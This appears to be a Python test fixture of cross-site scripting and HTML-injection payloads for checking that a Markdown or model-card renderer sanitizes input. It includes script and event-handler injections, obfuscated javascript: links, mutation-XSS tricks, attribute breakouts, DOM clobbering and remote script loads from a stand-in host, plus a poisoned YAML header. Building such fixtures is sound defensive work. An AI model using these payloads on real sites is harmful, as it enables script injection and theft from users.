# ruff: noqa: E501
"""Cards that try to run something, to load something from elsewhere, or to look like a part of the page."""

ELSEWHERE = "http://elsewhere.invalid"
RUN = "window.__pwned=1;alert(1)"

ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "script in a paragraph": f"text <script>{RUN}</script> text",
    "script from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image without quotes": "<img/src=x/onerror=alert(1)>",
    "image from elsewhere": f"![x]({ELSEWHERE}/a.png) <img src='{ELSEWHERE}/b.png'>",
    "image set": f"<img srcset='{ELSEWHERE}/c.png 2x' lowsrc='{ELSEWHERE}/d.png'>",
    "picture": f"<picture><source srcset='{ELSEWHERE}/e.png'><img src=x></picture>",
    "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "svg use": f"<svg><use href='{ELSEWHERE}/s.svg#x'/></svg>",
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'></table></math>",
    "math link": '<math href="javascript:alert(1)">x</math>',
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "focus": f"<b tabindex=0 autofocus onfocus={RUN}>x</b>",
    "link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](vbscript:x)",
    "link with entities": "[x](&#106;avascript&colon;alert(1)) <a href='&#x6A;avascript:alert(1)'>y</a>",
    "link with controls": '<a href="java\tscript:alert(1)">x</a> <a href="\x01javascript:alert(1)">y</a>',
    "link to data": "[x](data:text/html,<script>alert(1)</script>) [y](file:///etc/passwd)",
    "link out of its quotes": '[x](http://a.invalid/"onmouseover="alert(1))',
    "reference": "[x][r] ![y][r]\n\n[r]: javascript:alert(1) 'a\" onmouseover=\"alert(1)'",
    "autolink": "<javascript:alert(1)> <data:text/html,x> http://a.invalid/\"onclick=alert(1)//<b>",
    "HTML in a table": f"| a | b |\n| - | - |\n| <img src=x onerror={RUN}> | </table></div><script>{RUN}</script> |",
    "fence's language": f'```"><script>{RUN}</script>\n<script>{RUN}</script>\n```',
    "comment that ends early": f"<!--> <script>{RUN}</script> --> <!-- --!> <img src=x onerror={RUN}> -->",
    "CDATA": f"<![CDATA[<script>{RUN}</script>]]> <?php <script>{RUN}</script> ?>",
    "style": f"<style>@import '{ELSEWHERE}/x.css'; body {{background: url({ELSEWHERE}/y.png)}}</style>",
    "style on a tag": f"<p style=\"background:url({ELSEWHERE}/z.png);position:fixed;inset:0\">x</p>",
    "style on a block": "<div style='position:fixed;inset:0' class='skip wide'><h1 style='position:fixed' id='hk-main x'>x</h1></div>",
    "never closed": f"<script src={ELSEWHERE}/x.js> a <style> b <svg onload={RUN}> <textarea> c <title> d <iframe src={ELSEWHERE}>",
    "address out of its quotes": "<img src='?\"onerror=\"alert(1)'> <a href='#\"onclick=\"alert(1)'>x</a> <img src=x alt='\"onerror=\"alert(1)'>",
    "frames": f"<iframe src={ELSEWHERE}></iframe> <embed src={ELSEWHERE}/e> <object data={ELSEWHERE}/o></object>",
    "document": f"<base href={ELSEWHERE}/> <link rel=stylesheet href={ELSEWHERE}/l.css> <meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "form": f"<form action={ELSEWHERE}><input name=q autofocus><button formaction=javascript:alert(1)>x</button></form>",
    "media": f"<video src={ELSEWHERE}/v poster={ELSEWHERE}/p onerror={RUN}></video><audio src={ELSEWHERE}/a></audio>",
    "raw text": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript><xmp><script>{RUN}</script></xmp>",
    "textarea": f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea><title>x</title>",
    "template": f"<template><script>{RUN}</script></template><slot></slot><x-y onclick={RUN}>z</x-y>",
    "clobbering": "<img id=body name=body> <a id=location name=location href=x>x</a> <form id=document><input name=cookie></form>",
    "end tags": "</article></div></div></main></body></html></section></ul></td></table> <b>after",
    "nested lists": "<ul><li><div><li></div></li></ul></div></article></main> after",
    "open tags": "<a href=x><b><i><u><s><code><h1><table><tr><td><details><summary><blockquote>never closed",
    "deep": "<b>" * 5000 + "<div>" * 5000 + "> " * 500,
    "direction": "\u202eevil\u202c \u2066x\u2069 `\u202ecode` [\u202egro.elpmaxe](http://a.invalid)",
    "null and controls": "a\x00b <im\x00g src=x onerror=alert(1)> \x0b \x1f",
    "slashes": "[x](//elsewhere.invalid/x) ![y](//elsewhere.invalid/y.png) [z](/\\elsewhere.invalid) ![w](\\\\elsewhere.invalid/w)",
}  # fmt: skip

CHIPS = """---
license: "<script>window.__pwned=1</script>"
base_model: ["\\" onmouseover=alert(1) x=\\"", "javascript:alert(1)"]
pipeline_tag: "<img src=x onerror=alert(1)>"
datasets: ["http://elsewhere.invalid/d"]
tags: ["\\u202etag", "<svg onload=alert(1)>", "a&b?c=d#e"]
model-index:
- name: "<b>x"
  results:
  - task: {type: x}
    dataset: {type: "<script>alert(1)</script>", name: "<img src=x onerror=alert(1)>"}
    metrics:
    - {type: "<i>", value: "<script>alert(1)</script>", name: "</b></ul></section>"}
---
"""
